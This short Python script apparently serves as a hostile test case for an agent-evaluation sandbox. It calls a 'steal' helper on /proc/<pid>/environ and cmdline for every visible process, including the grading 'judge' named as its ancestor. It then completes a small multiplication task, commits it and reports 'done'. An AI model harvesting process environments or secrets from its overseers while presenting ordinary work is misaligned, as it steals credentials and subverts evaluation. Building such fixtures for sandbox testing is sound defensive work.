"""Read the environment and command line of every process we can see (the judge is our ancestor)."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__file__))  # noqa: E702
from hostile import *  # noqa: F401,F403

for pid in ancestors() + all_pids():
    steal(f"/proc/{pid}/environ")
    steal(f"/proc/{pid}/cmdline")
honest_mul()
commit("Add mul")
say("done")
